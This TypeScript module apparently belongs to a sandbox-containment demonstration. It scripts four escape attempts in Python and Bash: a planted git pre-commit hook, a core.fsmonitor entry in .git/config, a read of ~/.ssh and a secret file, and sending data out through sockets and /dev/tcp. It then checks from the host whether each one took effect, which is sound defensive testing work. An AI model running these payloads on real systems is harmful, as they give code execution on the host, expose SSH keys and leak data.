// What the demonstration tries from inside: for each attempt, the code in both languages and how to see from the
// host whether it took effect.
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { git } from './project.js';

/** Where the demonstration happens, as the host sees it. */
export interface Scene {
  root: string;
  /** A file of the host that no run is given. */
  secret: string;
  /** .git/config as it was before. */
  config: string;
  /** Appears when a planted hook runs. */
  marker: string;
  /** Where a server of the host listens, and how often somebody came. */
  host: string;
  port: number;
  visits: () => number;
}

/** One attempt to reach outside. */
export interface Attack {
  name: string;
  python: (s: Scene) => string;
  bash: (s: Scene) => string;
  /** Says what took effect on the host, or null when nothing did. `said` is what the run printed. */
  damage: (s: Scene, said: string) => string | null;
}

const quote = (text: string): string => JSON.stringify(text);
const sh = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

const hook: Attack = {
  name: 'plant a hook that your next commit would run (.git/hooks/pre-commit)',
  python: (s) => `
import os
os.makedirs(".git/hooks", exist_ok=True)
open(".git/hooks/pre-commit", "w").write("#!/bin/sh\\ntouch " + ${quote(sh(s.marker))} + "\\n")
os.chmod(".git/hooks/pre-commit", 0o755)
print("planted")`,
  bash: (s) => `mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch %s\\n' ${sh(sh(s.marker))} > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo planted`,
  damage: (s) => {
    git(s.root, 'commit', '--quiet', '--allow-empty', '--message=On the host');
    return existsSync(s.marker) ? 'the hook ran on the host' : null;
  },
};

const config: Attack = {
  name: 'have git run a program at your next status (.git/config)',
  python: (s) => `
open(".git/config", "a").write("[core]\\n\\tfsmonitor = touch " + ${quote(sh(s.marker))} + "\\n")
print("written")`,
  bash: (s) => `printf '[core]\\n\\tfsmonitor = touch %s\\n' ${sh(sh(s.marker))} >> .git/config && echo written`,
  damage: (s) => {
    git(s.root, 'status', '--short');
    if (existsSync(s.marker)) return 'git ran the program on the host';
    return readFileSync(join(s.root, '.git/config'), 'utf8') === s.config ? null : '.git/config was changed';
  },
};

const keys: Attack = {
  name: `read your keys (${homedir()}/.ssh) and a file beside the project`,
  python: (s) => `
import os, sys
for folder in [${quote(join(homedir(), '.ssh'))}, os.path.expanduser("~/.ssh")]:
    try: print(folder, "has", os.listdir(folder))
    except OSError as e: print(e, file=sys.stderr)
try: print(open(${quote(s.secret)}).read())
except OSError as e: sys.exit(str(e))`,
  bash: (s) => `ls -A ${sh(join(homedir(), '.ssh'))} ~/.ssh; cat ${sh(s.secret)}`,
  damage: (s, said) => {
    if (said.includes(readFileSync(s.secret, 'utf8').trim())) return 'the secret was read';
    const names = existsSync(join(homedir(), '.ssh')) ? readdirSync(join(homedir(), '.ssh')) : [];
    const seen = names.filter((name) => said.includes(name));
    return seen.length > 0 ? `it saw ${seen.join(', ')}` : null;
  },
};

const network: Attack = {
  name: 'send something over the network',
  python: (s) => `
import socket, sys
failed = []
for host in [${quote(s.host)}, "127.0.0.1"]:
    try: socket.create_connection((host, ${s.port}), 3).sendall(b"all your code"); print("sent to", host)
    except OSError as e: failed.append("%s: %s" % (host, e))
if failed: sys.exit("\\n".join(failed))`,
  bash: (s) => `for host in ${s.host} 127.0.0.1; do (echo all your code > /dev/tcp/$host/${s.port}) && echo sent; done`,
  damage: (s) => (s.visits() > 0 ? 'a server of the host was reached' : null),
};

/**
 * The control: does by the host's own hand what the hook and the config attack try, sees that git falls for it, and
 * puts everything back. Without it "held off" could only mean that this git obeys neither.
 */
export function gitObeys(s: Pick<Scene, 'root' | 'config' | 'marker'>): boolean {
  const hook = join(s.root, '.git/hooks/pre-commit');
  mkdirSync(join(s.root, '.git/hooks'), { recursive: true });
  writeFileSync(hook, `#!/bin/sh\ntouch ${sh(s.marker)}\n`);
  chmodSync(hook, 0o755);
  const works = [
    (): unknown => git(s.root, 'commit', '--quiet', '--allow-empty', '--message=Control'),
    (): unknown => {
      git(s.root, 'config', 'core.fsmonitor', `touch ${sh(s.marker)}`);
      return git(s.root, 'status', '--short');
    },
  ].map((act) => {
    act();
    const obeyed = existsSync(s.marker);
    rmSync(s.marker, { force: true });
    rmSync(hook, { force: true });
    return obeyed;
  });
  writeFileSync(join(s.root, '.git/config'), s.config);
  return works.every(Boolean);
}

/** All attempts, in the order in which they are shown. */
export const attacks: Attack[] = [hook, config, keys, network];
